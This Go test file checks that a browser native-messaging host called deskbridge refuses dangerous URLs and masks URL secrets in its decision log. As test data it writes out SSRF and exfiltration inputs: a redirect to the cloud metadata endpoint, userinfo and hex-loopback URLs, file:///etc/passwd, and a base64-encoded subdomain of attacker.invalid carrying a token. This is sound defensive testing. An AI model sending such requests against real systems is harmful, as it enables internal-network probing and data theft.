package main

// These tests run download_asset, import_asset and open_in_browser through
// the real deskbridge binary, started as Chrome starts it, with framed
// requests on stdin.

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

const netTestOrigin = "chrome-extension://abcdefghijklmnopabcdefghijklmnop/"

// netResponse is one framed response.
type netResponse struct {
	ID      string         `json:"id"`
	Success bool           `json:"success"`
	Data    map[string]any `json:"data"`
	Error   *struct {
		Code    string `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
}

// serveFrames starts the binary as Chrome does, sends each request as a
// frame, reads one response per request (stdin stays open meanwhile: the
// host abandons work when the browser closes the port), and returns them
// by id.
func serveFrames(t *testing.T, bin, cfg string, reqs map[string]string) map[string]netResponse {
	t.Helper()
	cmd := exec.Command(bin, "--config", cfg, netTestOrigin)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	for id, body := range reqs {
		frame := []byte(fmt.Sprintf(`{"version":1,"id":%q,%s}`, id, body))
		binary.Write(stdin, binary.LittleEndian, uint32(len(frame)))
		stdin.Write(frame)
	}
	got := map[string]netResponse{}
	for range reqs {
		var n uint32
		if err := binary.Read(stdout, binary.LittleEndian, &n); err != nil {
			t.Fatalf("reading a response: %v\n%s", err, stderr.String())
		}
		buf := make([]byte, n)
		if _, err := io.ReadFull(stdout, buf); err != nil {
			t.Fatal(err)
		}
		var r netResponse
		if err := json.Unmarshal(buf, &r); err != nil {
			t.Fatal(err)
		}
		got[r.ID] = r
	}
	stdin.Close()
	if err := cmd.Wait(); err != nil {
		t.Fatalf("deskbridge: %v\n%s", err, stderr.String())
	}
	return got
}

func TestBinaryNetActions(t *testing.T) {
	bin := binaryPath
	png := append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 32)...)
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if r.URL.Path == "/to-metadata" {
			http.Redirect(w, r, "http://169.254.169.254/latest/meta-data/", http.StatusFound)
			return
		}
		w.Write(png)
	}))
	defer srv.Close()
	port := srv.URL[strings.LastIndexByte(srv.URL, ':')+1:]

	base := t.TempDir()
	ws, imp, elsewhere := filepath.Join(base, "Demo"), filepath.Join(base, "Downloads"), filepath.Join(base, "Elsewhere")
	for _, d := range []string{ws, imp, elsewhere} {
		os.Mkdir(d, 0o755)
	}
	os.WriteFile(filepath.Join(imp, "logo.png"), png, 0o644)
	os.WriteFile(filepath.Join(elsewhere, "other.png"), png, 0o644)
	cfg := filepath.Join(base, "config.json")
	doc, _ := json.Marshal(map[string]any{
		"workspaces":      []map[string]string{{"name": "Demo", "path": ws}},
		"allowed_origins": []string{netTestOrigin},
		"decision_log":    map[string]string{"path": filepath.Join(base, "decisions.jsonl")},
		"import_sources":  []string{imp},
		"network":         map[string]any{"allow_private": []string{"127.0.0.1/32"}},
	})
	os.WriteFile(cfg, doc, 0o600)

	q := func(action string, args map[string]any) string {
		b, _ := json.Marshal(args)
		return fmt.Sprintf(`"action":%q,"arguments":%s`, action, b)
	}
	reqs := map[string]string{
		"dl-ok":       q("download_asset", map[string]any{"url": srv.URL + "/a.png?sig=CANARY-sig#t=CANARY-frag", "destination": filepath.Join(ws, "a.png")}),
		"dl-v6":       q("download_asset", map[string]any{"url": "http://[::1]:" + port + "/a.png", "destination": filepath.Join(ws, "b.png")}),
		"dl-meta":     q("download_asset", map[string]any{"url": srv.URL + "/to-metadata", "destination": filepath.Join(ws, "c.png")}),
		"dl-userinfo": q("download_asset", map[string]any{"url": "http://evil@127.0.0.1:" + port + "/", "destination": filepath.Join(ws, "d.png")}),
		"open-loop":   q("open_in_browser", map[string]any{"url": "http://0x7f000002:" + port + "/"}),
		"open-file":   q("open_in_browser", map[string]any{"url": "file:///etc/passwd"}),
		"imp-ok":      q("import_asset", map[string]any{"source": filepath.Join(imp, "logo.png"), "destination": ws}),
		"imp-out":     q("import_asset", map[string]any{"source": filepath.Join(elsewhere, "other.png"), "destination": ws}),
	}
	want := map[string]string{
		"dl-ok": "", "dl-v6": "PRIVATE_NETWORK_BLOCKED", "dl-meta": "PRIVATE_NETWORK_BLOCKED",
		"dl-userinfo": "INVALID_URL", "open-loop": "PRIVATE_NETWORK_BLOCKED", "open-file": "UNSUPPORTED_PROTOCOL",
		"imp-ok": "", "imp-out": "ASSET_IMPORT_DENIED",
	}
	got := serveFrames(t, bin, cfg, reqs)
	for id, code := range want {
		r, ok := got[id]
		switch {
		case !ok:
			t.Errorf("%s: no response", id)
		case code == "" && !r.Success:
			t.Errorf("%s: failed with %+v", id, r.Error)
		case code != "" && (r.Success || r.Error.Code != code):
			t.Errorf("%s: success=%v error=%+v, want %s", id, r.Success, r.Error, code)
		}
	}
	// Only dl-ok and dl-meta's first hop reached the allowed server.
	if n := hits.Load(); n != 2 {
		t.Errorf("the server received %d requests, want 2", n)
	}
	if b, err := os.ReadFile(filepath.Join(ws, "a.png")); err != nil || !bytes.Equal(b, png) {
		t.Errorf("a.png = %q, %v", b, err)
	}
	if b, err := os.ReadFile(filepath.Join(ws, "logo.png")); err != nil || !bytes.Equal(b, png) {
		t.Errorf("logo.png = %q, %v", b, err)
	}
	if des, _ := os.ReadDir(ws); len(des) != 2 {
		t.Errorf("workspace holds %d entries, want a.png and logo.png", len(des))
	}
	// The signed URL's secrets are masked in the log (engine/logmask.go).
	if b, err := os.ReadFile(filepath.Join(base, "decisions.jsonl")); err != nil || bytes.Contains(b, []byte("CANARY")) || !bytes.Contains(b, []byte("/a.png?sig=xxxxx#xxxxx")) {
		t.Errorf("decision log (%v) holds a URL secret or no masked URL:\n%s", err, b)
	}
}

// corpDomainPolicy is a policy folder with the default rules and a
// team's corp.domain, which denies the URL actions to *.attacker.invalid
// by name.
func corpDomainPolicy(t *testing.T) string {
	t.Helper()
	pol := t.TempDir()
	copyTestTree(t, filepath.Join("..", "..", "rego"), pol, func(p string) bool { return strings.HasSuffix(p, ".rego") })
	os.WriteFile(filepath.Join(pol, "corp.rego"), []byte(`package deskbridge.policies.corp

import rego.v1

deny contains {"code": "PERMISSION_DENIED", "rule": "corp.domain", "priority": 5,
	"message": "The team's policy does not allow this domain."} if {
	input.request.action in {"download_asset", "open_in_browser", "preview_web"}
	endswith(input.url.ascii_host, ".attacker.invalid")
}
`), 0o644)
	return pol
}

// TestBinaryDomainRuleDecidesBeforeDNS: through the real binary, a URL to
// a host a team's policy denies by name is refused by that rule
// (corp.domain) for each URL action, not by a failed look-up: the name is
// never resolved before the policy decided on it, so a domain deny list
// stops the DNS query itself. Each refusal is logged with its URL, masked;
// a name the policy allows that does not resolve is the host's refusal
// (host.facts), logged with its URL too.
func TestBinaryDomainRuleDecidesBeforeDNS(t *testing.T) {
	pol := corpDomainPolicy(t)
	cfg, ws := writeConfig(t, fmt.Sprintf(`,"policy":{"dir":%q}`, pol))
	p := start(t, []string{"--config", cfg, origin})
	url := "https://c2VjcmV0LWRhdGE.attacker.invalid/x.png?token=CANARY-tok"
	dest := quoteJSON(filepath.Join(ws, "x.png"))
	for _, c := range []struct{ id, action, args string }{
		{"d1", "download_asset", `{"url":` + quoteJSON(url) + `,"destination":` + dest + `}`},
		{"d2", "open_in_browser", `{"url":` + quoteJSON(url) + `}`},
		{"d3", "preview_web", `{"url":` + quoteJSON(url) + `}`},
	} {
		r := p.request(c.id, c.action, c.args)
		mustCode(t, r, c.id, "PERMISSION_DENIED")
		if r.Error.Rule != "corp.domain" {
			t.Errorf("%s: rule %q (%s), want the team's corp.domain", c.action, r.Error.Rule, r.Error.Message)
		}
	}
	mustCode(t, p.request("d4", "download_asset", `{"url":"https://allowed.invalid/y.png?sig=CANARY-sig","destination":`+dest+`}`), "d4", "EXECUTION_FAILED")
	p.closeAndWait()
	logPath := filepath.Join(filepath.Dir(cfg), "log", "decisions.jsonl")
	out, code := runLogged(t, "log", "query", "--log", logPath, "--rule", "corp.domain")
	if code != 0 || strings.Count(out, `"rule":"corp.domain"`) != 3 {
		t.Errorf("the log holds not the three refusals of the team's rule:\n%s", out)
	}
	if out, code = runLogged(t, "log", "query", "--log", logPath, "--rule", "host.facts"); code != 0 || !strings.Contains(out, `"request_id":"d4"`) {
		t.Errorf("the failed look-up is not the host's refusal:\n%s", out)
	}
	b, _ := os.ReadFile(logPath)
	for _, line := range strings.Split(string(b), "\n") {
		refusal := strings.Contains(line, `"rule":"corp.domain"`) || strings.Contains(line, `"rule":"host.facts"`)
		if refusal && !strings.Contains(line, "attacker.invalid/x.png?token=xxxxx") && !strings.Contains(line, "allowed.invalid/y.png?sig=xxxxx") {
			t.Errorf("a refusal is logged without its masked URL: %s", line)
		}
	}
	if b, _ := os.ReadFile(logPath); bytes.Contains(b, []byte("CANARY")) {
		t.Error("a URL secret reached the decision log")
	}
}

// TestBinaryRedirectHopDecidedBeforeDNS: through the real binary, a
// download whose server redirects to a name the team's policy denies is
// refused by that rule (corp.domain), not by a failed look-up of the name
// (the hop is decided before any query); the hop's refusal is logged as a
// decision of the request with the hop's URL, masked.
func TestBinaryRedirectHopDecidedBeforeDNS(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, port, _ := net.SplitHostPort(r.Host)
		http.Redirect(w, r, "http://c2VjcmV0LWRhdGE.attacker.invalid:"+port+"/x.png?token=CANARY-hop", http.StatusFound)
	}))
	defer srv.Close()
	cfg, ws := writeConfig(t, fmt.Sprintf(`,"policy":{"dir":%q},"network":{"allow_private":["127.0.0.1/32"]}`, corpDomainPolicy(t)))
	p := start(t, []string{"--config", cfg, origin})
	r := p.request("h1", "download_asset", `{"url":`+quoteJSON(srv.URL+"/a.png")+`,"destination":`+quoteJSON(filepath.Join(ws, "x.png"))+`}`)
	mustCode(t, r, "h1", "PERMISSION_DENIED")
	if r.Error.Rule != "corp.domain" {
		t.Errorf("rule %q (%s), want the team's corp.domain", r.Error.Rule, r.Error.Message)
	}
	p.closeAndWait()
	logPath := filepath.Join(filepath.Dir(cfg), "log", "decisions.jsonl")
	out, code := runLogged(t, "log", "query", "--log", logPath, "--rule", "corp.domain")
	if code != 0 || !strings.Contains(out, `"request_id":"h1"`) {
		t.Errorf("the log holds no refusal of the hop by the team's rule:\n%s", out)
	}
	b, _ := os.ReadFile(logPath)
	hop := false
	for _, line := range strings.Split(string(b), "\n") {
		hop = hop || strings.Contains(line, `"rule":"corp.domain"`) && strings.Contains(line, "attacker.invalid:") && strings.Contains(line, "/x.png?token=xxxxx")
	}
	if !hop || bytes.Contains(b, []byte("CANARY")) {
		t.Errorf("the hop's refusal is not logged with its masked URL (or a secret is):\n%s", b)
	}
	if des, _ := os.ReadDir(ws); len(des) != 0 {
		t.Errorf("a refused download left %d entries", len(des))
	}
}
